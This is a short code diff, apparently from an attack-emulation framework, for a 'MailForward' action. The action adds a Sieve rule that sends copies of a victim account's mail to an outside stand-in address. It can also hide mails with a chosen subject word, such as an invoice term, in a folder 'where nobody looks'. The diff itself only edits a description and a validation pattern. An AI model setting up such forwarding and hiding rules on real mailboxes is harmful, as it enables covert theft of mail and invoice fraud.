@@ -41,7 +41,7 @@ class MailForward(Action):
     sources: ClassVar[frozenset[str]] = frozenset({"attacker", "client"})
     targets: ClassVar[frozenset[str]] = frozenset({"mail"})
     caps: ClassVar[Caps] = Caps(commands=30)
-    touches: ClassVar[str] = "the account's Sieve rules: one more; a copy of each mail goes outside; with `hide` a folder"
+    touches: ClassVar[str] = "the account's Sieve rules: one more; copies of mails outside; with `hide` a folder"
     trials: ClassVar[tuple[Trial, ...]] = (
         Trial("pc1", "mail", {"account": "$victim", "to": "archive@cdn-stat.example"}),
         Trial("pc1", "mail", {"account": "$clerk", "to": "archive@cdn-stat.example", "hide": "請求"}),
@@ -52,7 +52,10 @@ class MailForward(Action):
     rule: Slug = "mailbox"
     hide: Annotated[
         str | None,
-        Field(pattern=r'^[^"\\\r\n]{1,20}$', description="mails with this word in the subject lie in `folder` alone"),
+        Field(
+            pattern=r'^[^"\\\s][^"\\\r\n]{0,11}$',
+            description="mails with this word in the subject lie in `folder` alone",
+        ),
     ] = None
     folder: Annotated[
         str, Field(pattern=r"^[A-Za-z][A-Za-z0-9 ]{0,30}$", description="made for them, where nobody looks")
